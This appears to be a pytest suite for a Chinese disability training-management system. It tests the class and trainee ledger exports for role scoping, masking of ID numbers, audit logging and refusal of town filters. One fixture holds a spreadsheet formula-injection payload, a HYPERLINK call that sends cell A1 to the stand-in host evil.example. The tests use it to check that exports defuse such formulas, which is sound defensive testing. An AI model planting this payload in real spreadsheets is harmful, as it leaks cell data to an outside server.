"""The training ledgers: classes and trainees, scoped like the class pages, masked unless the role
may reveal, marked with who exported them and when, no cell a spreadsheet would run, audited."""

from __future__ import annotations

import io
from typing import Any

import pytest

from canpei.audit.models import AuditEntry
from canpei.errors import Forbidden
from canpei.training.classes.exports import (
    CLASS_HEADERS,
    TRAINEE_HEADERS,
    classes_export,
    trainees_export,
)
from canpei.training.classes.selectors import ClassFilters
from canpei.training.classes.services import enrollment_update
from canpei.training.models import TrainingClass
from tests.conftest import ANHAI, CIZAO
from tests.spreadsheets.files import read_back

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def ledger(export, actor, purpose=None, **filters) -> list[list[Any]]:
    out = io.BytesIO()
    extra = {} if purpose is None else {"purpose": purpose}
    export(actor=actor, filters=ClassFilters(**filters), out=out, **extra)
    return read_back(out.getvalue())


@pytest.fixture
def world(users, make_class, trainee_factory, other_institution):
    """A completed class of the users' institution with a trainee of 安海 (certified) and one of
    磁灶, and a running class of another institution with a 磁灶 trainee."""
    anhai, cizao = (
        trainee_factory(town=ANHAI, name="安海学员"),
        trainee_factory(town=CIZAO, name="磁灶学员"),
    )
    ours = make_class("completed", persons=[anhai, cizao], name="电子商务培训班")
    certified = ours.enrollments.get(person=anhai)
    enrollment_update(
        actor=users.institution_staff,
        enrollment=certified,
        data={
            "certificate": {
                "type": "skill_level",
                "level": "junior",
                "number": EVIL,
                "date": ours.start_date.isoformat(),
                "issuer": "晋江市人社局",
            }
        },
    )
    theirs = make_class(
        "running", persons=[trainee_factory(town=CIZAO, name="外机构学员")], name="面点培训班"
    )
    TrainingClass.objects.filter(pk=theirs.pk).update(institution=other_institution)
    return {"ours": ours, "theirs": theirs, "anhai": anhai, "cizao": cizao}


def test_the_classes_ledger_has_a_row_per_class_with_its_counts(users, world):
    rows = ledger(classes_export, users.city_admin)
    assert rows[0][0] == "培训班台账"
    assert rows[1][0].startswith("导出人：city（city）　导出时间：20")
    assert rows[3] == CLASS_HEADERS
    ours = world["ours"]
    by_code = {r[1]: r for r in rows[4:]}
    assert set(by_code) == {ours.code, world["theirs"].code}
    assert by_code[ours.code][2:] == [
        "电子商务培训班",
        "晋江市职业技术学校",
        "就业技能培训",
        "集中办班",
        "电子商务师",
        "初级",
        "短期",
        ours.start_date,
        ours.end_date,
        40,
        30,
        2,
        2,
        1,
        "已结业申报",
        1200,
    ]


def test_the_trainees_ledger_shows_results_and_certificates_in_full_for_the_city(users, world):
    masked = ledger(trainees_export, users.city_admin)
    assert world["anhai"].id_number_masked in str(masked)
    assert world["anhai"].id_number not in str(masked)
    rows = ledger(trainees_export, users.city_admin, purpose="结业核对")
    assert rows[0][0] == "培训学员台账" and rows[3] == TRAINEE_HEADERS
    anhai = world["anhai"]
    row = next(r for r in rows[4:] if r[4] == "安海学员")
    assert row[1:] == [
        world["ours"].code,
        "电子商务培训班",
        "晋江市职业技术学校",
        "安海学员",
        anhai.id_number,
        "安海镇",
        "肢体残疾",
        "二级",
        "结业",
        40,
        "合格",
        "",
        "职业技能等级证书",
        "初级",
        "'" + EVIL,
        world["ours"].start_date,
        "晋江市人社局",
    ]
    entry = AuditEntry.objects.filter(action="export.trainees").latest("pk")
    assert (entry.actor_id, entry.changes["rows"], entry.changes["full_numbers"]) == (
        users.city_admin.pk,
        3,
        True,
    )


def test_no_cell_starts_a_formula(users, world):
    for export in (classes_export, trainees_export):
        for row in ledger(export, users.city_admin):
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")))


def test_an_institution_exports_its_own_classes_with_masked_numbers_and_no_town(users, world):
    classes = ledger(classes_export, users.institution_staff)
    assert [r[1] for r in classes[4:]] == [world["ours"].code]
    trainees = ledger(trainees_export, users.institution_staff)
    assert sorted(r[4] for r in trainees[4:]) == ["安海学员", "磁灶学员"]
    for row in trainees[4:]:
        assert "*" in row[5] and row[6] == ""
    assert world["anhai"].id_number not in str(trainees)
    assert AuditEntry.objects.get(action="export.trainees").changes["full_numbers"] is False


def test_town_staff_export_only_their_towns_trainees_and_the_classes_they_are_in(users, world):
    trainees = ledger(trainees_export, users.town_staff)
    assert [(r[4], r[5]) for r in trainees[4:]] == [("安海学员", world["anhai"].id_number_masked)]
    assert [r[1] for r in ledger(classes_export, users.town_staff)[4:]] == [world["ours"].code]
    other = ledger(trainees_export, users.other_town_staff)
    assert sorted(r[4] for r in other[4:]) == ["外机构学员", "磁灶学员"]


@pytest.mark.parametrize("role", ["employment_service", "auditor"])
def test_city_wide_readers_see_every_trainee_masked(users, world, role):
    trainees = ledger(trainees_export, getattr(users, role))
    assert len(trainees[4:]) == 3 and all("*" in r[5] for r in trainees[4:])


def test_the_filters_apply(users, world):
    year = world["ours"].start_date.year
    assert len(ledger(trainees_export, users.city_admin, town=CIZAO)[4:]) == 2
    assert len(ledger(trainees_export, users.city_admin, state="running")[4:]) == 1
    assert len(ledger(trainees_export, users.city_admin, year=year + 1)[4:]) == 0
    assert len(ledger(classes_export, users.city_admin, year=year)[4:]) == 2
    assert ledger(classes_export, users.city_admin, year=year)[0][0] == f"{year}年度培训班台账"
    assert [r[1] for r in ledger(classes_export, users.city_admin, town=CIZAO)[4:]] == [
        world["theirs"].code
    ]


@pytest.mark.parametrize("role", ["sys_admin", "security_admin", "audit_admin"])
def test_the_officers_cannot_export_training_ledgers(users, role):
    for export in (classes_export, trainees_export):
        with pytest.raises(Forbidden):
            export(actor=getattr(users, role), filters=ClassFilters(), out=io.BytesIO())


# ---- the export endpoints ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "role, status",
    [
        ("city_admin", 200),
        ("institution_staff", 200),
        ("town_staff", 200),
        ("auditor", 200),
        ("sys_admin", 404),
        ("audit_admin", 404),
    ],
)
@pytest.mark.parametrize("kind", ["trainees", "classes"])
def test_the_export_endpoints_are_for_those_who_see_classes(
    users, world, login, role, status, kind
):
    response = login(getattr(users, role)).get(f"/{kind}/export")
    assert response.status_code == status
    if status == 200:
        assert response["Content-Disposition"].startswith("attachment")
        rows = read_back(b"".join(response.streaming_content))
        assert rows[3] == (TRAINEE_HEADERS if kind == "trainees" else CLASS_HEADERS)


def test_the_endpoint_takes_the_list_filters_and_csv(users, world, login):
    client = login(users.city_admin)
    response = client.get(f"/trainees/export?town={CIZAO}&format=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert text.splitlines()[0].startswith("# 导出人：city")
    assert "磁灶学员" in text and "外机构学员" in text and "安海学员" not in text
    bad = client.get("/classes/export?year=abc")
    assert bad.status_code == 302 and bad["Location"] == "/classes"


# ---- what a ledger must not tell (issue 8) ---------------------------------------------------------


def test_a_towns_classes_ledger_counts_only_its_own_trainees(users, world):
    """The class list counts a town's own trainees; the ledger's completed and certificate
    counts agree with it (both trainees of `ours` completed, only the 安海 one is certified)."""
    ours = world["ours"]
    enrollment_update(
        actor=users.institution_staff,
        enrollment=ours.enrollments.get(person=world["cizao"]),
        data={
            "certificate": {
                "type": "training",
                "number": "CZ-1",
                "date": ours.start_date.isoformat(),
                "issuer": "晋江市残联",
            }
        },
    )
    counts = {r[1]: r[13:16] for r in ledger(classes_export, users.city_admin)[4:]}
    assert counts[ours.code] == [2, 2, 2]
    anhai = {r[1]: r[13:16] for r in ledger(classes_export, users.town_staff)[4:]}
    assert anhai == {ours.code: [1, 1, 1]}
    cizao = {r[1]: r[13:16] for r in ledger(classes_export, users.other_town_staff)[4:]}
    assert cizao == {ours.code: [1, 1, 1], world["theirs"].code: [1, 0, 0]}
    # As on the class list the town sees.
    from canpei.training.classes.selectors import class_list

    # trainee_count is the selector's annotation, which the model's type does not declare.
    assert [vars(c)["trainee_count"] for c in class_list(user=users.town_staff)] == [1]


def test_an_institution_cannot_filter_its_trainees_ledger_by_town(users, world):
    """Rows kept or dropped by where trainees live would tell an institution their towns: the
    filter is refused, the same way whether or not any trainee lives there."""
    from canpei.errors import InvalidInput
    from canpei.training.classes.exports import TOWN_FILTER_REFUSED

    refusals = []
    for town in (ANHAI, CIZAO, "350582103000"):
        with pytest.raises(InvalidInput) as refused:
            ledger(trainees_export, users.institution_staff, town=town)
        refusals.append(refused.value.errors)
    assert refusals == [[("town", TOWN_FILTER_REFUSED)]] * 3
    assert TOWN_FILTER_REFUSED == "培训机构不能按学员所在镇街筛选学员台账"
    assert not AuditEntry.objects.filter(action="export.trainees").exists()
    # Town staff and the city keep the filter.
    assert len(ledger(trainees_export, users.city_admin, town=CIZAO)[4:]) == 2
    assert len(ledger(trainees_export, users.town_staff, town=ANHAI)[4:]) == 1


def test_the_trainees_export_page_refuses_an_institutions_town_filter(users, world, login):
    from canpei.training.classes.exports import TOWN_FILTER_REFUSED

    client = login(users.institution_staff)
    for town in (ANHAI, CIZAO):
        response = client.get(f"/trainees/export?town={town}", follow=True)
        assert response.redirect_chain == [("/classes", 302)]
        assert TOWN_FILTER_REFUSED in response.content.decode()
    whole = client.get("/trainees/export")
    assert whole.status_code == 200


def test_the_cli_refuses_an_institutions_town_filter(users, world, tmp_path, capsys):
    from canpei import cli
    from canpei.training.classes.exports import TOWN_FILTER_REFUSED

    out = tmp_path / "学员.xlsx"
    code = cli.main(
        [
            "export",
            "trainees",
            "--out",
            str(out),
            "--town",
            ANHAI,
            "--as",
            users.institution_staff.username,
        ]
    )
    _out, err = capsys.readouterr()
    assert code == 1 and TOWN_FILTER_REFUSED in err and not out.exists()


def test_town_staff_do_not_see_an_inspections_class_wide_head_counts(
    users, make_class, trainee_factory, api, login
):
    """An inspection counts the whole class (three trainees, two of other towns here); town staff
    see a class as far as their own trainees, on the page and through the API."""
    from canpei.training.classes.services import inspection_record

    training_class = make_class(
        "running",
        persons=[
            trainee_factory(town=ANHAI),
            trainee_factory(town=CIZAO),
            trainee_factory(town=CIZAO),
        ],
    )
    inspection_record(
        actor=users.city_admin,
        training_class=training_class,
        data={"present": 2, "findings": "正常"},
    )
    path = f"/classes/{training_class.pk}/inspections"
    town = api(users.town_staff).get(path).json()["results"]
    assert [(r["on_roster"], r["present"], r["findings"]) for r in town] == [(None, None, "正常")]
    city = api(users.city_admin).get(path).json()["results"]
    assert [(r["on_roster"], r["present"]) for r in city] == [(3, 2)]
    institution = api(users.institution_staff).get(path).json()["results"]
    assert [(r["on_roster"], r["present"]) for r in institution] == [(3, 2)]
    page = login(users.town_staff).get(f"/classes/{training_class.pk}").content.decode()
    assert "3 / 2" not in page and "正常" in page
    assert "3 / 2" in login(users.city_admin).get(f"/classes/{training_class.pk}").content.decode()
